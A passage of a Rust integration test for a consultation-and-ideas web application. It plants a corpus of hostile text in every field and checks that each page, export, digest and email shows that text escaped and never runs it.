            e(&["it", "id", "ie", "sn", "th", "dn"]),
        ),
        (
            format!("/api/v1/ideas/{}/comments", w.idea),
            board,
            e(&["cm", "ce", "hr", "dn"]),
        ),
        (
            format!("/api/v1/inbox/idea/{}/notes", w.idea),
            board,
            e(&["ni", "nr"]),
        ),
        (
            format!("/api/v1/reports/{}", w.report),
            me,
            e(&["rs", "rp", "rr", "ri", "rf", "re", "rn", "or"]),
        ),
        (
            api.clone(),
            None,
            e(&["ct", "cs", "cd", "ch", "qp", "qh", "qo"]),
        ),
    ] {
        let answer = ctx.get(&path, token).await;
        f.json(&path, &answer, &expected);
    }

    // The person's own pages.
    let c = format!("/consultations/{}", w.slug);
    for (path, expected) in [
        ("/profile".to_owned(), e(&["dn", "jt", "og"])),
        ("/account/tokens".to_owned(), e(&["dn", "tk"])),
        ("/my-submissions".to_owned(), e(&["it", "rs"])),
        (
            format!("/reports/{}", w.report),
            e(&["rs", "rp", "rr", "ri", "rf", "re", "rn", "or"]),
        ),
        (
            format!("{c}/response"),
            e(&["ct", "qp", "qh", "qo", "on", "pa", "ci", "an"]),
        ),
        (format!("{c}/sections/scope"), e(&["ct", "cd"])),
        (format!("/comments/{}/edit", w.comment), e(&["cm"])),
    ] {
        let answer = ctx.get(&path, me).await;
        f.page(&format!("{path} (its author)"), &answer, &expected);
    }
    let data = ctx.get("/account/data", me).await;
    f.json(
        "/account/data",
        &data,
        &e(&[
            "dn", "jt", "og", "tk", "it", "id", "ie", "cm", "ce", "rs", "rp", "rr", "ri", "rf",
            "re", "on", "pa", "ci", "an", "sc",
        ]),
    );

    // The consultation in public, and its outcome in every format.
    for (path, expected) in [
        (c.clone(), e(&["ct", "cs", "cd", "ch"])),
        (format!("{c}/versions/2"), e(&["ct", "cd", "ch", "vs"])),
        (format!("{c}/outcome"), e(&["ct", "os", "sc", "ra", "dn"])),
    ] {
        let answer = ctx.get(&path, None).await;
        f.page(&format!("{path} (signed out)"), &answer, &expected);
    }
    let outcome = e(&["ct", "sc", "ra", "dn"]);
    let md = ctx.get(&format!("{c}/outcome.md"), None).await;
    f.markdown(
        &format!("{c}/outcome.md"),
        &md.body,
        &outcome,
        &outcome_summary(&ctx, i),
    );
    let csv = ctx.get(&format!("{c}/outcome.csv"), None).await;
    f.csv(
        &format!("{c}/outcome.csv"),
        &csv.body,
        &e(&["sc", "ra", "dn"]),
    );
    let json = ctx.get(&format!("{c}/outcome.json"), None).await;
    f.json(
        &format!("{c}/outcome.json"),
        &json,
        &e(&["ct", "os", "sc", "ra", "dn"]),
    );

    // Each thing's audit trail, shown to the board as a page and as CSV.
    let audited: [(&str, &String, &[&str]); 6] = [
        ("idea", &w.idea, &["it", "sn"]),
        ("report", &w.report, &["rs", "rn"]),
        ("comment", &w.hidden_comment, &["ce", "hr"]),
        ("consultation", &w.consultation_id, &["ct"]),
        ("consultation_response", &w.response, &["on", "rx"]),
        ("section_comment", &w.section_comment, &["ra"]),
    ];
    let audits: Vec<(String, Vec<String>)> = audited
        .into_iter()
        .map(|(kind, id, codes)| (format!("/board/audit/{kind}/{id}"), e(codes)))
        .collect();

    // The board's pages about this payload's things.
    let analysis = format!("{c}/analysis");
    let mut pages = vec![
        (
            format!("/board/items/idea/{}", w.idea),
            e(&["it", "tg", "rs", "ct", "ch"]),
        ),
        (
            format!("/board/items/report/{}", w.report),
            e(&["rs", "it"]),
        ),
        (format!("/board/notes/idea/{}", w.idea), e(&["ni", "nr"])),
        (format!("/ideas/{}/status", w.idea), e(&["it"])),
        (format!("/reports/{}/status", w.report), e(&["rs"])),
        (format!("/comments/{}/hide", w.hidden_comment), e(&["ce"])),
    ];
    pages.extend(audits.iter().cloned());
    pages.extend([
        (format!("{c}/edit"), e(&["ct", "cs"])),
        (
            format!("{c}/questions/{}", w.free_question),
            e(&["qp", "qh"]),
        ),
        (format!("{c}/questions/{}", w.choice_question), e(&["qo"])),
        (analysis.clone(), e(&["ct", "qp", "qo", "an", "ch"])),
        (format!("{analysis}/responses"), e(&["ct", "dn", "on"])),
        (
            format!("{analysis}/responses/{}", w.response),
            e(&[
                "ct", "dn", "on", "pa", "ci", "qp", "an", "rd", "rx", "sc", "ra",
            ]),
        ),
        (
            format!("{analysis}/sections/1/scope"),
            e(&["ct", "sc", "ra", "dn"]),
        ),
    ]);
    for (path, expected) in pages {
        let answer = ctx.get(&path, board).await;
        f.page(&format!("{path} (board)"), &answer, &expected);
    }
    let csvs = audits
        .into_iter()
        .map(|(path, expected)| (format!("{path}/csv"), expected))
        .chain([(
            format!("{analysis}/responses.csv"),
            e(&["dn", "qp", "on", "pa", "ci", "an", "sc", "ra", "rx", "rd"]),
        )]);
    for (path, expected) in csvs {
        let answer = ctx.get(&path, board).await;
        f.csv(&path, &answer.body, &expected);
    }
    let json = ctx.get(&format!("{analysis}/responses.json"), board).await;
    f.json(
        &format!("{analysis}/responses.json"),
        &json,
        &e(&["dn", "qp", "on", "pa", "ci", "an", "sc", "ra", "rx", "rd"]),
    );

    check_echoes(&ctx, &w, &mut f).await;
    f
}

/// Forms that show back what was typed: the idea preview (with its
/// Markdown rendered), the refusals of the profile, a report and a link,
/// and a search for the payload itself.
async fn check_echoes(ctx: &Ctx, w: &World, f: &mut Findings) {
    let i = w.i;
    let me = Some(w.token.as_str());
    let typed = |codes: &[&str]| -> Vec<String> { codes.iter().map(|c| marker(c, i)).collect() };
    let preview = ctx
        .send(
            Method::POST,
            "/ideas/new",
            me,
            form(&[
                ("title", text("it", i)),
                ("description", text("id", i)),
                ("expected_impact", text("ie", i)),
                ("themes", w.theme.clone()),
                ("beneficiaries", "patients".to_owned()),
                ("action", "continue".to_owned()),
            ]),
        )
        .await;
    f.page(
        &format!("/ideas/new previewing payload {i} ({})", preview.status),
        &preview,
        &typed(&["it", "id", "ie"]),
    );
    let refused = ctx
        .send(
            Method::POST,
            "/profile",
            me,
            form(&[
                ("display_name", text("dn", i)),
                ("respondent_type", String::new()),
                ("organisation", text("og", i)),
                ("ods_code", String::new()),
                ("job_title", text("jt", i)),
            ]),
        )
        .await;
    assert_eq!(refused.status, 422, "no respondent type");
    f.page(
        &format!("/profile refusing payload {i}"),
        &refused,
        &typed(&["dn", "og", "jt"]),
    );
    let refused = ctx
        .send(
            Method::POST,
            "/reports/new",
            me,
            form(&[
                ("organisation", text("or", i)),
                ("system_name", text("rs", i)),
                ("supplier_name", text("rp", i)),
                ("category", "outage".to_owned()),
                ("standard_reference", text("rr", i)),
                ("severity", String::new()),
                ("patient_impact", text("ri", i)),
                ("staff_impact", text("rf", i)),
                ("evidence", text("re", i)),
            ]),
        )
        .await;
    assert_eq!(refused.status, 422, "no severity");
    f.page(
        &format!("/reports/new refusing payload {i}"),
        &refused,
        &typed(&["or", "rs", "rp", "rr", "ri", "rf", "re"]),
    );
    let address = format!("/consultations/{}/sections/{}", w.slug, text("lp", i));
    let refused = ctx
        .send(
            Method::POST,
            &format!("/board/items/idea/{}/links", w.idea),
            Some(&ctx.board),
            form(&[("target", address)]),
        )
        .await;
    assert_eq!(refused.status, 422, "no such section");
    f.page(
        &format!("/board/items/idea/… refusing a link to payload {i}"),
        &refused,
        &typed(&["lp"]),
    );
    let q: String = url::form_urlencoded::byte_serialize(text("q_", i).as_bytes()).collect();
    for (path, token) in [
        (format!("/search?q={q}"), None),
        (format!("/search/save?q={q}"), Some(ctx.board.as_str())),
    ] {
        let answer = ctx.send(Method::GET, &path, token, Body::None).await;
        let what = path.split('?').next().unwrap_or_default();
        f.page(
            &format!("{what} for payload {i} ({})", answer.status),
            &answer,
            &typed(&["q_"]),
        );
    }
}

/// Every page of a list, following its "next" links.
async fn every_page(
    ctx: &Ctx,
    f: &mut Findings,
    first: &str,
    token: Option<&str>,
    expected: &[String],
) {
    let next = Selector::parse("a[rel=next]").expect("selector");
    let mut path = first.to_owned();
    let mut shown = String::new();
    for _ in 0..20 {
        let answer = ctx.get(&path, token).await;
        assert!(answer.content_type.starts_with("text/html"), "{path}");
        let doc = Html::parse_document(&answer.body);
        shown.push_str(&f.inspect(&path, &doc));
        let link = doc
            .select(&next)
            .filter_map(|a| a.value().attr("href"))
            .next()
            .map(str::to_owned);
        match link {
            Some(link) if link != path => path = link,
            _ => break,
        }
    }
    f.shown(&format!("{first} (every page)"), &shown, expected);
}

/// Lists and pages that show every payload at once.
async fn check_lists(
    ctx: &Ctx,
    digest_tokens: &[String],
    import_id: &str,
    first_idea: &str,
    f: &mut Findings,
) {
    let board = Some(ctx.board.as_str());
    let admin = Some(ctx.admin.as_str());
    let period = hub::uk_time::local(Utc::now()).format("%Y-%m").to_string();
    // The report to government names the five themes with most new ideas:
    // one each, so the first five by name.
    let mut themes: Vec<(String, String)> = (0..PAYLOADS.len())
        .filter(|&i| ctx.accepted("th", i))
        .map(|i| (text("th", i).trim().to_owned(), marker("th", i)))
        .collect();
    themes.sort();
    let mut in_report = ctx.expect_all(&["it", "rs", "or", "ct"]);
    in_report.extend(themes.into_iter().take(5).map(|(_, m)| m));

    for (path, token, expected) in [
        (
            "/board/inbox?kind=idea",
            board,
            ctx.expect_all(&["it", "tg"]),
        ),
        ("/board/inbox?kind=report", board, ctx.expect_all(&["rs"])),
        ("/board/themes", board, ctx.expect_all(&["th"])),
        ("/board/dashboard", board, vec![]),
        ("/reports", board, ctx.expect_all(&["rs", "or"])),
        ("/ideas", None, ctx.expect_all(&["it", "th"])),
        ("/consultations", None, ctx.expect_all(&["ct", "cs"])),
        ("/admin/users", admin, ctx.expect_all(&["dn"])),
        ("/admin/organisations", admin, ctx.expect_all(&["or"])),
    ] {
        every_page(ctx, f, path, token, &expected).await;
    }
    let query: Vec<String> = (0..PAYLOADS.len()).map(|i| marker("it", i)).collect();
    every_page(
        ctx,
        f,
        &format!("/search?q={}", query.join("+OR+")),
        board,
        &ctx.expect_all(&["it", "id"]),
    )
    .await;
    let import = format!("/admin/organisations/imports/{import_id}");
    let page = ctx.get(&import, admin).await;
    f.page(&import, &page, &ctx.expect_all(&["oj", "oc"]));
    let rejected = ctx.get(&format!("{import}/rejected.csv"), admin).await;
    f.csv(
        &format!("{import}/rejected.csv"),
        &rejected.body,
        &ctx.expect_all(&["oj", "oc"]),
    );
    let report = ctx
        .get(&format!("/board/report?period={period}"), board)
        .await;
    f.page("/board/report", &report, &in_report);
    let html = ctx
        .get(&format!("/board/report.html?period={period}"), board)
        .await;
    f.page("/board/report.html", &html, &in_report);
    let md = ctx
        .get(&format!("/board/report.md?period={period}"), board)
        .await;
    f.markdown("/board/report.md", &md.body, &in_report, &[]);
    let reports: Vec<String> = (0..PAYLOADS.len()).map(|i| marker("re", i)).collect();
    for (path, token, expected) in [
        (
            format!("/api/v1/board-report?period={period}"),
            board,
            in_report.clone(),
        ),
        (
            "/api/v1/inbox?limit=100".to_owned(),
            board,
            ctx.expect_all(&["it", "rs", "tg"]),
        ),
        ("/api/v1/dashboard".to_owned(), board, vec![]),
        (
            format!("/api/v1/search/similar?limit=20&item_kind=idea&item_id={first_idea}"),
            None,
            vec![],
        ),
        (
            format!("/api/v1/search?limit=100&q={}", reports.join("+OR+")),
            board,
            ctx.expect_all(&["rs", "re"]),
        ),
        (
            format!("/api/v1/organisations/imports/{import_id}"),
            admin,
            ctx.expect_all(&["oj", "oc"]),
        ),
    ] {
        let answer = ctx.get(&path, token).await;
        f.json(&path, &answer, &expected);
    }

    // Saved searches, as their reader sees them.
    for (k, token) in digest_tokens.iter().enumerate() {
        let reader = digest_reader(k);
        let page = ctx.get("/search/saved", Some(token)).await;
        f.page(
            &format!("/search/saved ({reader})"),
            &page,
            &ctx.expect_of(&["ss", "sq"], followed(k)),
        );
        let listed: Value = ctx
            .get("/api/v1/me/saved-searches", Some(token))
            .await
            .json();
        for saved in listed.as_array().expect("saved searches") {
            let id = id_of(saved);
            let page = ctx.get(&format!("/search/saved/{id}"), Some(token)).await;
            let name = saved["name"].as_str().unwrap_or_default();
            let q = saved["q"].as_str().unwrap_or_default();
            let expected: Vec<String> = followed(k)
                .flat_map(|i| {
                    let mut m = Vec::new();
                    if name.contains(&marker("ss", i)) {
                        m.extend(ctx.expect(&["ss", "it"], i));
                    }
                    if q.contains(&marker("sq", i)) {
                        m.extend(ctx.expect(&["sq"], i));
                    }
                    m
                })
                .collect();
            f.page(&format!("/search/saved/{id} ({reader})"), &page, &expected);
        }
    }
}

/// What a digest reader's digest names: their payloads' ideas and reports
/// (assigned to them) and saved searches (with new matches).
fn in_digest(ctx: &Ctx, k: usize) -> Vec<String> {
    ctx.expect_of(&["it", "rs", "ss"], followed(k))
}

/// Each digest reader's digest: the preview (API and page), then sent.
async fn check_digests(app: &TestApp, ctx: &Ctx, digest_tokens: &[String], f: &mut Findings) {
    for (k, token) in digest_tokens.iter().enumerate() {
        let expected = in_digest(ctx, k);
        let reader = digest_reader(k);
        let answer = ctx.get("/api/v1/me/digest/preview", Some(token)).await;
        f.json(
            &format!("/api/v1/me/digest/preview ({reader})"),
            &answer,
            &expected,
        );
        let preview = answer.json();
        f.markdown(
            &format!("the digest preview's Markdown ({reader})"),
            preview["markdown"].as_str().expect("markdown"),
            &expected,
            &[],
        );
        f.html(
            &format!("the digest preview's HTML ({reader})"),
            preview["html"].as_str().expect("html"),
            &expected,
        );
        f.shown(
            &format!("the digest preview's text ({reader})"),
            preview["text"].as_str().expect("text"),
            &expected,
        );
        let page = ctx.get("/board/digest/preview", Some(token)).await;
        f.page(
            &format!("/board/digest/preview ({reader})"),
            &page,
            &expected,
        );
        let user = entity::users::Entity::find()
            .filter(entity::users::Column::Email.eq(&reader))
            .one(&app.db)
            .await
            .expect("query")
            .expect("the reader");
        let sent = hub::digests::schedule::send_one(
            &app.state,
            &user,
            Utc::now(),
            hub::digests::schedule::Mode::Now,
        )
        .await
        .expect("digest");
        assert!(
            matches!(sent, hub::digests::schedule::Outcome::Sent { .. }),
            "{reader}: {sent:?}"
        );
    }
}

/// A delivered message's text and HTML parts, decoded.
fn parts(raw: &str) -> BTreeMap<&'static str, String> {
    let boundary = raw
        .split("boundary=\"")
        .nth(1)
        .and_then(|rest| rest.split('"').next());
    let chunks: Vec<&str> = match boundary {
        Some(b) => raw.split(&format!("--{b}")).skip(1).collect(),
        None => vec![raw],
    };
    let mut out = BTreeMap::new();
    for chunk in chunks {
        let Some((headers, body)) = chunk.split_once("\r\n\r\n") else {
            continue;
        };
        let headers = headers.to_ascii_lowercase();
        let kind = if headers.contains("content-type: text/html") {
            "html"
        } else if headers.contains("content-type: text/plain") {
            "text"
        } else {
            continue;
        };
        let decoded = if headers.contains("content-transfer-encoding: base64") {
            use base64::Engine;
            let compact: String = body.chars().filter(|c| !c.is_whitespace()).collect();
            let bytes = base64::engine::general_purpose::STANDARD
                .decode(compact)
                .expect("a base64 part");
            String::from_utf8(bytes).expect("a UTF-8 part")
        } else if headers.contains("content-transfer-encoding: quoted-printable") {
            decode_quoted_printable(body)
        } else {
            body.to_owned()
        };
        out.insert(kind, decoded);
    }
    out
}

/// Every email, as delivered: both parts, each checked for what it should
/// show.
async fn check_emails(
    app: &TestApp,
    ctx: &Ctx,
    worlds: &[World],
    readers: usize,
    f: &mut Findings,
) {
    let deadline = Instant::now() + Duration::from_secs(30);
    let rows = loop {
        let rows = email_outbox::Entity::find()
            .all(&app.db)
            .await
            .expect("outbox");
        if rows.iter().all(|r| r.status == "sent") {
            break rows;
        }
        assert!(Instant::now() < deadline, "emails still unsent");
        tokio::time::sleep(Duration::from_millis(50)).await;
    };
    let delivered: Vec<String> = app
        .mailbox
        .as_ref()
        .expect("the memory mailbox")
        .lock()
        .expect("mailbox")
        .iter()
        .map(|m| String::from_utf8_lossy(&m.formatted()).into_owned())
        .collect();
    let mut kinds = BTreeSet::new();
    for row in rows {
        // The worker gives each email the Message-ID of its outbox row.
        let message = delivered
            .iter()
            .find(|m| m.contains(&format!("<{}@", row.id)))
            .unwrap_or_else(|| panic!("`{}` was delivered", row.subject));
        let (kind, expected) = if let Some(w) = worlds.iter().find(|w| w.email == row.to_address) {
            let s = row.subject.as_str();
            let (kind, codes): (&str, &[&str]) =
                if s.starts_with("The HealthTech Advisory Board replied") {
                    ("reply", &["it", "nr"])
                } else if s.starts_with("Your idea is now") {
                    ("idea status", &["it", "sn"])
                } else if s.starts_with("Update on your report") {
                    ("report status", &["rs", "rn"])
                } else if s.starts_with("Your response to") {
                    ("consultation receipt", &["ct"])
                } else if s.starts_with("You said, we did") {
                    ("consultation outcome", &["ct"])
                } else {
                    panic!("an email nobody expected: {s}")
                };
            (kind, ctx.expect(codes, w.i))
        } else if let Some(k) = (0..readers).find(|&k| digest_reader(k) == row.to_address) {
            ("digest", in_digest(ctx, k))
        } else {
            panic!("an email to {} nobody expected", row.to_address)
        };
        kinds.insert(kind);
        let what = format!("the {kind} email to {}", row.to_address);
        let parts = parts(message);
        let text = parts
            .get("text")
            .unwrap_or_else(|| panic!("{what}: a text part"));
        f.shown(&format!("{what} (text part)"), text, &expected);
        let html = parts
            .get("html")
            .unwrap_or_else(|| panic!("{what}: an HTML part"));
        f.html(&format!("{what} (HTML part)"), html, &expected);
    }
    for kind in [
        "reply",
        "idea status",
        "report status",
        "consultation receipt",
        "consultation outcome",
        "digest",
    ] {
        assert!(kinds.contains(kind), "no {kind} email was sent");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_text_in_every_field_is_shown_as_text_and_never_runs_where_it_comes_back() {
    let started = Instant::now();
    let app = spawn_app().await;
    let ctx = Arc::new(Ctx {
        base: app.address.clone(),
        client: reqwest::Client::builder()
            .redirect(reqwest::redirect::Policy::none())
            .build()
            .expect("client"),
        board: app.api_token_for("board@example.nhs.uk", Role::Board).await,
        admin: app.api_token_for("admin@example.nhs.uk", Role::Admin).await,
        ledger: Mutex::new(Ledger::default()),
    });
    let n = PAYLOADS.len();

    // The register: an organisation named by each payload, and rows the
    // import refuses (a bad code; a bad code with the payload as name).
    let mut file = csv::Writer::from_writer(Vec::new());
    file.write_record(["ods_code", "name"]).expect("csv");
    for i in 0..n {
        file.write_record([ods(i), text("or", i)]).expect("csv");
        file.write_record([text("oc", i), format!("Refused {i}")])
            .expect("csv");
        file.write_record([format!("!{i}"), text("oj", i)])
            .expect("csv");
    }
    let file = String::from_utf8(file.into_inner().expect("csv")).expect("utf-8");
    let import = ctx
        .send(
            Method::POST,
            "/api/v1/organisations/imports?file_name=xss.csv&kind=trust",
            Some(&ctx.admin),
            Body::Csv(file),
        )
        .await;
    assert_eq!(import.status, 202, "{}", import.body);
    let import_id = id_of(&import.json());
    crate::organisations::finished(&app, uuid::Uuid::parse_str(&import_id).expect("uuid")).await;
    for i in 0..n {
        for code in ["or", "oj", "oc"] {
            ctx.accept(code, i);
        }
    }

    // Digest readers follow searches for their payloads' ideas, saved
    // before the ideas exist so that the ideas are new matches.
    let mut readers = Vec::new();
    for k in 0..n.div_ceil(PER_DIGEST) {
        let token = app.api_token_for(&digest_reader(k), Role::Board).await;
        let settings = ctx
            .json(
                Method::PUT,
                "/api/v1/me/digest",
                &token,
                json!({ "frequency": "daily", "send_hour": 8, "sections": ["assigned", "saved_searches"] }),
            )
            .await;
        assert_eq!(settings.status, 200, "{}", settings.body);
        for i in followed(k) {
            ctx.submit(
                Method::POST,
                "/api/v1/me/saved-searches",
                &token,
                json!({ "q": marker("it", i), "notify": true }),
                &[("name", "ss")],
                i,
            )
            .await;
            ctx.submit(
                Method::POST,
                "/api/v1/me/saved-searches",
                &token,
                json!({ "name": format!("Query {i}") }),
                &[("q", "sq")],
                i,
            )
            .await;
        }
        let me: Value = ctx.get("/api/v1/me", Some(&token)).await.json();
        readers.push((token, me["id"].clone()));
    }

    let mut worlds = Vec::new();
    for i in 0..n {
        let email = person(i);
        let token = app.api_token_for(&email, Role::Contributor).await;
        worlds.push(World {
            i,
            email,
            token,
            ..World::default()
        });
    }
    let gate = Arc::new(tokio::sync::Semaphore::new(CONCURRENCY));
    let mut tasks = tokio::task::JoinSet::new();
    for w in worlds {
        let (ctx, gate) = (ctx.clone(), gate.clone());
        tasks.spawn(async move {
            let _turn = gate.acquire_owned().await.expect("gate");
            plant(ctx, w).await
        });
    }
    let mut worlds: Vec<World> = tasks.join_all().await;
    worlds.sort_by_key(|w| w.i);
    // Each payload's idea and report go to its digest reader.
    for (k, (_, reader)) in readers.iter().enumerate() {
        let items: Vec<Value> = followed(k)
            .flat_map(|i| {
                let w = &worlds[i];
                [
                    json!({ "kind": "idea", "id": w.idea }),
                    json!({ "kind": "report", "id": w.report }),
                ]
            })
            .collect();
        let assigned = ctx
            .json(
                Method::POST,
                "/api/v1/inbox/assign",
                &ctx.board,
                json!({ "items": items, "assignee": reader }),
            )
            .await;
        assert_eq!(assigned.status, 200, "{}", assigned.body);
    }
    let planted = started.elapsed();
    app.indexed().await;

    let mut tasks = tokio::task::JoinSet::new();
    for w in worlds.clone() {
        let (ctx, gate) = (ctx.clone(), gate.clone());
        tasks.spawn(async move {
            let _turn = gate.acquire_owned().await.expect("gate");
            check_world(ctx, w).await
        });
    }
    let mut findings = Findings::default();
    for found in tasks.join_all().await {
        findings.merge(found);
    }
    let tokens: Vec<String> = readers.into_iter().map(|(token, _)| token).collect();
    check_lists(&ctx, &tokens, &import_id, &worlds[0].idea, &mut findings).await;
    check_digests(&app, &ctx, &tokens, &mut findings).await;
    check_emails(&app, &ctx, &worlds, tokens.len(), &mut findings).await;

    {
        let ledger = ctx.ledger.lock().expect("ledger");
        eprintln!(
            "{n} payloads into {} fields: {} accepted, {} refused (below); {} outputs checked; \
             planted in {planted:?}, all done in {:?}",
            FIELDS.len(),
            ledger.accepted.len(),
            ledger.refused.len(),
            findings.outputs,
            started.elapsed()
        );
        for refusal in &ledger.refused {
            eprintln!("refused: {refusal}");
        }
    }
    // A field that refused most of the corpus was hardly tested. The search
    // parser refuses most payloads as queries: they are checked where a
    // search shows them back.
    for field in FIELDS.iter().filter(|f| !f.echo_only && f.code != "sq") {
        let taken = (0..n).filter(|&i| ctx.accepted(field.code, i)).count();
        assert!(
            taken * 4 >= n * 3,
            "{} ({}) took only {taken} of {n} payloads",
            field.name,
            field.code
        );
    }
    assert!(
        findings.unsafe_output.is_empty() && findings.missing.is_empty(),
        "{} unsafe outputs:\n{}\n\n{} markers not shown where expected:\n{}",
        findings.unsafe_output.len(),
        findings.unsafe_output.join("\n"),
        findings.missing.len(),
        findings.missing.join("\n")
    );
    app.stop().await;
}
